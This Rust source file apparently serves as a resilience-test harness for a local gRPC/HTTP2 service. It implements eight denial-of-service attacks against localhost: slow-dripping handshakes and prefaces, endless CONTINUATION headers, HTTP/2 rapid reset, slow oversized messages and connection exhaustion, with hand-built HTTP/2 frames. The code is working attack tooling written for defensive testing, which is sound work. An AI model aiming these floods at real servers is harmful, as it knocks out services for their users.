//! What somebody without credentials can do to a listener, as data, and the one that does it.

#![expect(clippy::unwrap_used, reason = "an attack that cannot be set up ends its test")]

use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use std::net::{Ipv4Addr, SocketAddr};
use std::num::NonZero;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime::{Builder, Runtime};
use tokio_rustls::TlsConnector;

/// Between two bytes that drip.
const DRIP: Duration = Duration::from_millis(500);
/// Until a connection that was cut is made again.
const AGAIN: Duration = Duration::from_millis(500);
/// What begins HTTP/2, with empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// Frames, their flags.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// One attack.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Connections at a time; one that is cut is made again.
    pub(crate) connections: usize,
    /// Whether TLS is begun and ended, before the way below.
    pub(crate) shakes: bool,
    pub(crate) way: Way,
}

/// What each connection does.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Way {
    /// Nothing at all.
    Silence,
    /// One byte after the other of something that never becomes whole: first the one, then the other without end.
    Drip(&'static [u8], &'static [u8]),
    /// Headers that never end: a CONTINUATION frame of one byte after the other.
    EndlessHeaders,
    /// Requests that are reset as soon as they are made, as fast as it goes.
    RapidReset,
    /// A call of a method, with a message that is said to have so many bytes and comes one by one.
    SlowMessage(&'static str, u32),
}

pub(crate) const ATTACKS: [Attack; 8] = [
    Attack {
        name: "a ClientHello that drips",
        connections: 512,
        shakes: false,
        way: Way::Drip(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x00"),
    },
    Attack {
        name: "a preface that drips",
        connections: 512,
        shakes: true,
        way: Way::Drip(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r", b""),
    },
    Attack {
        name: "headers without end",
        connections: 256,
        shakes: true,
        way: Way::EndlessHeaders,
    },
    Attack {
        name: "rapid reset",
        connections: 16,
        shakes: true,
        way: Way::RapidReset,
    },
    Attack {
        name: "a message that announces 1 GB",
        connections: 256,
        shakes: true,
        way: Way::SlowMessage("/plimsoll.v1.Query/GetSummary", 1 << 30),
    },
    Attack {
        name: "levers pulled without a token, slowly",
        connections: 64,
        shakes: true,
        way: Way::SlowMessage("/plimsoll.v1.Control/Pause", 100),
    },
    Attack {
        name: "health asked without end, slowly",
        connections: 256,
        shakes: true,
        way: Way::SlowMessage("/grpc.health.v1.Health/Check", 100),
    },
    Attack {
        name: "as many connections as there are file descriptors",
        connections: 10_000,
        shakes: false,
        way: Way::Silence,
    },
];

/// An attack under way; dropping it ends it.
pub(crate) struct UnderWay {
    /// Its own threads: who pulls a lever does not wait for the attacker's turn.
    threads: Option<Runtime>,
    open: Arc<AtomicUsize>,
    made: Arc<AtomicUsize>,
}

impl UnderWay {
    /// Connections that are open, as the attacker sees them.
    pub(crate) fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }

    /// Connections that were made since it began.
    pub(crate) fn made(&self) -> usize {
        self.made.load(Ordering::Relaxed)
    }
}

impl Drop for UnderWay {
    fn drop(&mut self) {
        if let Some(threads) = self.threads.take() {
            threads.shutdown_background();
        }
    }
}

/// Threads that want all of the machine, four for each core; dropping it ends them.
pub(crate) struct Spinning {
    ends: Arc<AtomicBool>,
    threads: Vec<JoinHandle<()>>,
}

impl Spinning {
    pub(crate) fn begin() -> Self {
        let ends = Arc::<AtomicBool>::default();
        let cores = std::thread::available_parallelism().map_or(1, NonZero::get);
        let spin = |_| {
            let ends = Arc::clone(&ends);
            std::thread::spawn(move || {
                while !ends.load(Ordering::Relaxed) {
                    std::hint::spin_loop();
                }
            })
        };
        let threads = (0..4 * cores).map(spin).collect();
        Self { ends, threads }
    }
}

impl Drop for Spinning {
    fn drop(&mut self) {
        self.ends.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            let _ = thread.join();
        }
    }
}

impl Attack {
    /// Attacks from now on. Half of it comes from the address that callers have as well.
    pub(crate) fn begin(self, target: SocketAddr, ca: &CertificateDer<'static>) -> UnderWay {
        let (open, made) = (Arc::<AtomicUsize>::default(), Arc::<AtomicUsize>::default());
        let threads = Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        let tls = self.shakes.then(|| connector(ca));
        for n in 0..self.connections {
            let from = Ipv4Addr::new(127, 0, 0, [1, 2, 1, 3, 1, 4][n % 6]);
            let (tls, open, made) = (tls.clone(), Arc::clone(&open), Arc::clone(&made));
            threads.spawn(async move {
                // They do not all begin at once: the machine is also the callers'.
                tokio::time::sleep(Duration::from_micros(n as u64 * 200)).await;
                loop {
                    if let Ok(stream) = connect(from, target).await {
                        open.fetch_add(1, Ordering::Relaxed);
                        made.fetch_add(1, Ordering::Relaxed);
                        self.one(stream, tls.as_ref()).await;
                        open.fetch_sub(1, Ordering::Relaxed);
                    }
                    tokio::time::sleep(AGAIN).await;
                }
            });
        }
        UnderWay {
            threads: Some(threads),
            open,
            made,
        }
    }

    /// One connection, until it is cut.
    async fn one(self, stream: TcpStream, tls: Option<&TlsConnector>) {
        match tls {
            None => self.attack(stream).await,
            Some(tls) => {
                let name = ServerName::try_from("localhost").unwrap();
                let shaking = tls.connect(name, stream);
                if let Ok(Ok(stream)) = tokio::time::timeout(Duration::from_secs(5), shaking).await {
                    self.attack(stream).await;
                }
            }
        }
    }

    async fn attack<S: AsyncRead + AsyncWrite + Unpin>(self, mut stream: S) {
        let _ = match self.way {
            Way::Silence => stream.read_u8().await.map(drop),
            Way::Drip(first, then) => drip(&mut stream, first, then).await,
            Way::EndlessHeaders => endless(&mut stream).await,
            Way::RapidReset => rapid(&mut stream).await,
            Way::SlowMessage(path, bytes) => message(&mut stream, path, bytes).await,
        };
    }
}

fn connector(ca: &CertificateDer<'static>) -> TlsConnector {
    let mut roots = RootCertStore::empty();
    roots.add(ca.clone()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap();
    let mut config = builder.with_root_certificates(roots).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    TlsConnector::from(Arc::new(config))
}

async fn connect(from: Ipv4Addr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((from, 0)))?;
    socket.connect(target).await
}

/// Waits for the next byte to drip; an error once the other side has closed.
async fn pause<S: AsyncRead + Unpin>(stream: &mut S) -> std::io::Result<()> {
    let end = tokio::time::Instant::now() + DRIP;
    let mut said = [0; 4096];
    loop {
        match tokio::time::timeout_at(end, stream.read(&mut said)).await {
            Err(_) => return Ok(()),
            Ok(Ok(0)) => return Err(std::io::ErrorKind::UnexpectedEof.into()),
            Ok(Ok(_)) => {}
            Ok(Err(error)) => return Err(error),
        }
    }
}

async fn drip<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    first: &[u8],
    then: &[u8],
) -> std::io::Result<()> {
    for byte in first.iter().chain(then.iter().cycle()) {
        stream.write_all(&[*byte]).await?;
        stream.flush().await?;
        pause(stream).await?;
    }
    loop {
        pause(stream).await?;
    }
}

async fn endless<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    let block = block("/plimsoll.v1.Control/Pause");
    stream.write_all(&frame(HEADERS, 0, 1, &block)).await?;
    loop {
        // One more `accept-encoding`, from the static table.
        stream.write_all(&frame(CONTINUATION, 0, 1, &[0x90])).await?;
        stream.flush().await?;
        pause(stream).await?;
    }
}

async fn rapid<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    let block = block("/plimsoll.v1.Query/GetSummary");
    for id in (1..i32::MAX.unsigned_abs()).step_by(2) {
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
        stream
            .write_all(&frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()))
            .await?;
    }
    Ok(())
}

async fn message<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    path: &str,
    bytes: u32,
) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    let block = block(path);
    for id in (1..64).step_by(2) {
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &block)).await?;
        let announced = [&[0], &bytes.to_be_bytes()[..]].concat();
        stream.write_all(&frame(DATA, 0, id, &announced)).await?;
    }
    loop {
        stream.write_all(&frame(DATA, 0, 1, b"\x00")).await?;
        stream.flush().await?;
        pause(stream).await?;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()[..]].concat();
    [&head[..], payload].concat()
}

/// The headers of a call, as HPACK writes them without a table or Huffman.
fn block(path: &str) -> Vec<u8> {
    let text = |name: &[u8], value: &str| {
        let mut field = name.to_vec();
        field.push(u8::try_from(value.len()).unwrap());
        field.extend_from_slice(value.as_bytes());
        field
    };
    [
        vec![0x83, 0x87],
        text(&[0x04], path),
        text(&[0x01], "localhost"),
        text(&[0x0f, 0x10], "application/grpc"),
        text(b"\x00\x02te", "trailers"),
    ]
    .concat()
}
